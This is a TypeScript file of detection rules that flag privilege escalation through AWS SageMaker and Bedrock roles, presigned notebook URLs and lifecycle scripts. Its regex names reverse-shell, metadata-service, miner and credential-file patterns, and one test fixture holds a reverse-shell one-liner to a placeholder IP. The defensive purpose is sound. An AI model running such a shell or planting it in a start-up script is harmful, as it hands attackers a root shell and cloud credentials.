import { days, defineDetection, hours, minutes, personEase, roleEase, usualEases } from '../../detection.ts'
import { objectOf, textOf, valuesAt, type LogEvent } from '../../event.ts'
import type { Estate } from '../../estate.ts'
import { AGENTCORE, BEDROCK, SAGEMAKER } from '../../names.ts'
import { ACCOUNT, call, role, user } from '../../records.ts'

const eve = user('eve')
const dev = role('Dev', 'ana')
const CREATING = ['CreateNotebookInstance', 'CreateTrainingJob', 'CreateProcessingJob', 'CreatePipeline', 'CreateAutoMLJob', 'CreateAutoMLJobV2', 'CreateModel', 'CreateDomain', 'CreateUserProfile',
  'CreateAgent', 'CreateKnowledgeBase', 'CreateFlow', 'CreateModelCustomizationJob', 'CreateModelInvocationJob', 'CreateCodeInterpreter', 'CreateAgentRuntime', 'CreateGateway', 'CreateHyperParameterTuningJob', 'CreateTransformJob', 'CreateCluster'] as const
const notebook = (roleArn: string, as = dev, at = 0) => call('sagemaker', 'CreateNotebookInstance', { as, at, request: { notebookInstanceName: 'nb', instanceType: 'ml.t3.medium', roleArn } })
const ADMIN = `arn:aws:iam::${ACCOUNT}:role/Admin`
const DATA = `arn:aws:iam::${ACCOUNT}:role/SageMakerData`
const script = (text: string) => [{ content: Buffer.from(text).toString('base64') }]

const passesStronger = (event: LogEvent, estate: Estate): boolean => {
  const passed = passedRoles(event)
  return estate.facts.stronger.some(({ caller, role }) => (caller === event.role || caller === event.principal) && passed.includes(role))
}

const passedRoles = (event: LogEvent): string[] => {
  const parameters = objectOf(event.raw['requestParameters'])
  return ['roleArn', 'executionRoleArn', 'agentResourceRoleArn', 'executionRole', 'serviceRole', 'customizationRoleArn'].map((name) => textOf(parameters[name])).filter((arn) => arn !== '')
}

const suspicious = /\/dev\/tcp\/|\bnc(?:at)?\s+-|bash\s+-i|169\.254\.169\.254|curl[^\n|]{0,300}\|\s*(?:sudo\s+)?(?:ba)?sh|wget[^\n|]{0,300}\|\s*(?:sudo\s+)?(?:ba)?sh|base64\s+(?:-d|--decode)|xmrig|minerd|stratum\+tcp|authorized_keys|aws\s+(?:sts|iam|secretsmanager|ssm)\s|\.aws\/credentials|ngrok|webhook\.site|mkfifo/i

/** Lifecycle scripts stand in base64 in the request; what they would run as root is read, never kept. */
const runsOddly = (event: LogEvent): boolean =>
  ['onCreate', 'onStart', 'studioLifecycleConfigContent'].flatMap((name) => valuesAt(event.raw, name === 'studioLifecycleConfigContent' ? ['requestParameters', name] : ['requestParameters', name, 'content']))
    .some((content) => typeof content === 'string' && content.length < 100_000 && suspicious.test(Buffer.from(content, 'base64').toString('latin1')))

const PRESIGNED = ['CreatePresignedNotebookInstanceUrl', 'CreatePresignedDomainUrl', 'CreatePresignedMlflowTrackingServerUrl'] as const
const presigned = (at: number, as = dev, ip?: string) => call('sagemaker', 'CreatePresignedNotebookInstanceUrl', { as, at, ...(ip !== undefined && { ip }), request: { notebookInstanceName: 'nb' } })

/** Ways into notebooks, jobs and the roles they run as. */
export default [
  defineDetection({
    id: 'ai-role-passed-first-seen',
    title: 'Principal passes a role to an AI service for the first time',
    risk: 'privilege-escalation', severity: 'medium', techniques: ['T1078.004', 'T1548', 'AML.T0012'],
    why: 'A role that is passed can be used; a new pair of principal and role is a new way up.',
    eases: [...usualEases, roleEase],
    when: { kind: 'first', match: ['roleArn', 'executionRoleArn', 'agentResourceRoleArn'].map((name) => ({ eventSource: [SAGEMAKER, BEDROCK, AGENTCORE], eventName: CREATING, outcome: 'success', [`requestParameters.${name}`]: { present: true } as const })), by: ['account'], of: ['role', 'requestParameters.roleArn'], history: days(7) },
    fires: [[notebook(DATA), notebook(ADMIN, dev, 8 * 86_400)], [notebook(DATA), notebook(DATA, eve, 8 * 86_400)]],
    quiet: [[notebook(DATA), notebook(DATA, dev, 8 * 86_400)]],
  }),
  defineDetection({
    id: 'ai-stronger-role-passed',
    title: 'Role with more rights than the caller passed to an AI service',
    risk: 'privilege-escalation', severity: 'high', techniques: ['T1548', 'T1078.004'],
    why: 'The permissions of both were compared: through the new resource the caller can do what it could not.',
    when: { kind: 'event', match: { eventSource: [SAGEMAKER, BEDROCK, AGENTCORE], eventName: CREATING, outcome: 'success' }, where: passesStronger },
    fires: [{ records: [notebook(ADMIN)], facts: { stronger: [{ caller: `arn:aws:iam::${ACCOUNT}:role/Dev`, role: ADMIN, gains: ['iam:*'] }] } }],
    quiet: [{ records: [notebook(DATA)], facts: { stronger: [{ caller: `arn:aws:iam::${ACCOUNT}:role/Dev`, role: ADMIN, gains: ['iam:*'] }] } }, [notebook(ADMIN)]],
  }),
  defineDetection({
    id: 'sagemaker-presigned-url-first-seen',
    title: 'Notebook or domain opened by URL from a new principal',
    risk: 'privilege-escalation', severity: 'medium', techniques: ['T1550', 'T1078.004', 'AML.T0008.000'],
    why: 'The URL gives a shell with the role of the notebook.',
    eases: [...usualEases, personEase],
    when: { kind: 'first', match: { eventSource: SAGEMAKER, eventName: PRESIGNED, outcome: 'success' }, by: ['account', 'requestParameters.notebookInstanceName'], of: ['principal'], history: days(7) },
    fires: [[presigned(0), presigned(8 * 86_400, eve)]],
    quiet: [[presigned(0), presigned(8 * 86_400)]],
  }),
  defineDetection({
    id: 'sagemaker-presigned-url-by-key',
    title: 'Notebook or domain URL made with a long-term key',
    risk: 'privilege-escalation', severity: 'medium', techniques: ['T1550', 'AML.T0008.000'],
    why: 'People open notebooks in the console; a program that makes the URL wants the shell behind it.',
    when: { kind: 'event', match: { eventSource: SAGEMAKER, eventName: PRESIGNED, keyType: 'long-term', caller: 'program', outcome: 'success' } },
    fires: [[presigned(0, eve)]],
    quiet: [[presigned(0)]],
  }),
  defineDetection({
    id: 'sagemaker-presigned-url-network-first-seen',
    title: 'Notebook or domain URL made from a new network',
    risk: 'privilege-escalation', severity: 'medium', techniques: ['T1550', 'T1078.004'],
    why: 'A known principal from an unknown place.',
    eases: [...usualEases, personEase],
    when: { kind: 'first', match: { eventSource: SAGEMAKER, eventName: PRESIGNED, outcome: 'success' }, by: ['role'], of: ['network'], history: days(7) },
    fires: [[presigned(0), presigned(8 * 86_400, dev, '185.220.101.7')]],
    quiet: [[presigned(0), presigned(8 * 86_400)]],
  }),
  defineDetection({
    id: 'sagemaker-notebook-stopped-turned-started',
    title: 'Notebook stopped, given a start-up script and started again',
    risk: 'privilege-escalation', severity: 'critical', techniques: ['T1546', 'T1078.004'],
    why: 'The script runs as root with the role of a notebook that someone else made.',
    respond: ['aws sagemaker stop-notebook-instance --notebook-instance-name {target} --region {region}'],
    eases: [...usualEases],
    when: {
      kind: 'set', ordered: true, atLeast: 3, needs: ['turn'], within: minutes(60),
      steps: [
        { name: 'script', match: { eventSource: SAGEMAKER, eventName: ['CreateNotebookInstanceLifecycleConfig', 'UpdateNotebookInstanceLifecycleConfig'], outcome: 'success' } },
        { name: 'stop', match: { eventSource: SAGEMAKER, eventName: 'StopNotebookInstance' } },
        { name: 'turn', match: { eventSource: SAGEMAKER, eventName: 'UpdateNotebookInstance', outcome: 'success' } },
        { name: 'start', match: { eventSource: SAGEMAKER, eventName: 'StartNotebookInstance' } }],
    },
    fires: [[['CreateNotebookInstanceLifecycleConfig', 0], ['StopNotebookInstance', 5], ['UpdateNotebookInstance', 200], ['StartNotebookInstance', 260]].map(([name, at]) => call('sagemaker', String(name), { as: eve, at: Number(at), request: { notebookInstanceName: 'nb' } }))],
    quiet: [[['StopNotebookInstance', 5], ['StartNotebookInstance', 260]].map(([name, at]) => call('sagemaker', String(name), { as: eve, at: Number(at), request: { notebookInstanceName: 'nb' } }))],
  }),
  defineDetection({
    id: 'sagemaker-lifecycle-script-suspicious',
    title: 'Notebook start-up script that reaches for credentials or a shell',
    risk: 'privilege-escalation', severity: 'high', techniques: ['T1546', 'T1059.004', 'T1552.005'],
    why: 'The script opens a connection, reads the metadata service, calls IAM or mines.',
    when: { kind: 'event', match: { eventSource: SAGEMAKER, eventName: ['CreateNotebookInstanceLifecycleConfig', 'UpdateNotebookInstanceLifecycleConfig', 'CreateStudioLifecycleConfig'], outcome: 'success' }, where: runsOddly },
    fires: [[call('sagemaker', 'CreateNotebookInstanceLifecycleConfig', { as: eve, request: { notebookInstanceLifecycleConfigName: 'x', onStart: script('#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/443 0>&1') } })], [call('sagemaker', 'UpdateNotebookInstanceLifecycleConfig', { as: eve, request: { onStart: script('aws sts get-caller-identity') } })]],
    quiet: [[call('sagemaker', 'CreateNotebookInstanceLifecycleConfig', { as: dev, request: { onStart: script('#!/bin/bash\npip install pandas') } })]],
  }),
  defineDetection({
    id: 'sagemaker-notebook-opened-then-role-used',
    title: 'Notebook made with a role, opened and its role used elsewhere',
    risk: 'privilege-escalation', severity: 'high', techniques: ['T1548', 'T1078.004', 'T1552.005'],
    why: 'A new notebook that is opened at once by the program that made it is made for its role.',
    eases: [...usualEases, personEase],
    when: {
      kind: 'set', ordered: true, atLeast: 2, within: hours(1),
      steps: [{ name: 'create', match: { eventSource: SAGEMAKER, eventName: ['CreateNotebookInstance', 'CreateDomain', 'CreateUserProfile'], outcome: 'success', caller: 'program' } }, { name: 'open', match: { eventSource: SAGEMAKER, eventName: PRESIGNED, caller: 'program' } }],
    },
    fires: [[notebook(ADMIN, eve), presigned(400, eve)]],
    quiet: [[notebook(ADMIN, eve), presigned(400)], [presigned(0, eve), notebook(ADMIN, eve, 400)]],
  }),
]
